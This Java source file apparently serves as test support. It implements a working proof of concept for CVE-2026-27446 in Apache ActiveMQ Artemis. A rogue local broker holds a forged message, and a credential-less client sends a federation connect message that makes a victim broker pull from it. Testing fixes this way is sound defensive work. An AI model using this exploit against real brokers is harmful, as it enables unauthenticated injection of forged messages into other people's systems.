package io.chapar.camel;

import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.apache.activemq.artemis.api.core.ActiveMQException;
import org.apache.activemq.artemis.api.core.QueueConfiguration;
import org.apache.activemq.artemis.api.core.RoutingType;
import org.apache.activemq.artemis.api.core.TransportConfiguration;
import org.apache.activemq.artemis.api.core.client.ActiveMQClient;
import org.apache.activemq.artemis.api.core.client.ClientMessage;
import org.apache.activemq.artemis.api.core.client.ClientSession;
import org.apache.activemq.artemis.api.core.client.ClientSessionFactory;
import org.apache.activemq.artemis.api.core.client.ServerLocator;
import org.apache.activemq.artemis.core.config.FederationConfiguration;
import org.apache.activemq.artemis.core.config.federation.FederationDownstreamConfiguration;
import org.apache.activemq.artemis.core.config.federation.FederationQueuePolicyConfiguration;
import org.apache.activemq.artemis.core.config.impl.ConfigurationImpl;
import org.apache.activemq.artemis.core.protocol.core.CoreRemotingConnection;
import org.apache.activemq.artemis.core.protocol.core.impl.ChannelImpl;
import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.FederationDownstreamConnectMessage;
import org.apache.activemq.artemis.core.remoting.impl.netty.NettyConnectorFactory;
import org.apache.activemq.artemis.core.remoting.impl.netty.TransportConstants;
import org.apache.activemq.artemis.core.server.ActiveMQServer;
import org.apache.activemq.artemis.core.server.impl.ActiveMQServerImpl;

/**
 * The attacker of CVE-2026-27446: a broker with forged messages, and a client without user or
 * password that tells another broker to take its messages from there.
 */
final class RogueBroker implements AutoCloseable {
  static final String FORGED = "forged";

  private static final long TIMEOUT_MILLIS = 5_000;

  private final int port = freePort();
  private final ActiveMQServer server;

  RogueBroker(Path folder, String queue) throws Exception {
    ConfigurationImpl configuration = new ConfigurationImpl();
    configuration.setName("rogue").setPersistenceEnabled(false).setSecurityEnabled(false);
    configuration.setJMXManagementEnabled(false).setBrokerInstance(folder.toFile());
    configuration.addAcceptorConfiguration("open", "tcp://127.0.0.1:" + port + "?protocols=CORE");
    server = new ActiveMQServerImpl(configuration);
    server.start();
    server.createQueue(QueueConfiguration.of(queue).setRoutingType(RoutingType.ANYCAST));
    forge(queue);
  }

  private static int freePort() {
    try (ServerSocket free = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      return free.getLocalPort();
    } catch (java.io.IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  private static TransportConfiguration at(int port) {
    return new TransportConfiguration(
        NettyConnectorFactory.class.getName(),
        Map.of(
            TransportConstants.HOST_PROP_NAME,
            "127.0.0.1",
            TransportConstants.PORT_PROP_NAME,
            port),
        "rogue");
  }

  private void forge(String queue) throws Exception {
    try (ServerLocator locator = ActiveMQClient.createServerLocatorWithoutHA(at(port));
        ClientSessionFactory factory = locator.createSessionFactory();
        ClientSession session = factory.createSession()) {
      ClientMessage message = session.createMessage(ClientMessage.BYTES_TYPE, true);
      message.getBodyBuffer().writeBytes(FORGED.getBytes(StandardCharsets.UTF_8));
      session.createProducer(queue).send(message);
    }
  }

  /** The connection of a stranger, who says that he is a broker of a federation. */
  Stranger attack(int victim, String queue) throws Exception {
    Stranger stranger = new Stranger(victim);
    stranger.federate(demand(queue));
    return stranger;
  }

  private FederationDownstreamConnectMessage demand(String queue) {
    FederationDownstreamConfiguration downstream =
        new FederationDownstreamConfiguration().setName("rogue").addPolicyRef("all");
    downstream.setUpstreamConfiguration(at(port));
    downstream.setStaticConnectors(List.of());
    FederationDownstreamConnectMessage message = new FederationDownstreamConnectMessage();
    message.setName("rogue");
    message.setCredentials(new FederationConfiguration.Credentials());
    message.setStreamConfiguration(downstream);
    message.setTransformerConfigurationMap(Map.of());
    message.setFederationPolicyMap(
        Map.of(
            "all",
            new FederationQueuePolicyConfiguration()
                .setName("all")
                .addInclude(
                    new FederationQueuePolicyConfiguration.Matcher().setQueueMatch(queue))));
    return message;
  }

  /** The messages that are still here: nobody took them. */
  long messages(String queue) {
    return server.locateQueue(queue).getMessageCount();
  }

  @Override
  public void close() throws Exception {
    server.stop();
  }

  /** A client of Artemis' own protocol that never says who it is. */
  static final class Stranger implements AutoCloseable {
    private final ServerLocator locator;
    private final ClientSessionFactory factory;

    Stranger(int victim) throws Exception {
      locator = ActiveMQClient.createServerLocatorWithoutHA(at(victim));
      locator.setCallTimeout(TIMEOUT_MILLIS);
      locator.setInitialConnectAttempts(1);
      factory = locator.createSessionFactory();
    }

    void federate(FederationDownstreamConnectMessage demand) throws ActiveMQException {
      CoreRemotingConnection connection = (CoreRemotingConnection) factory.getConnection();
      connection.getChannel(ChannelImpl.CHANNEL_ID.FEDERATION.id, -1).send(demand);
    }

    @Override
    public void close() {
      factory.close();
      locator.close();
    }
  }
}
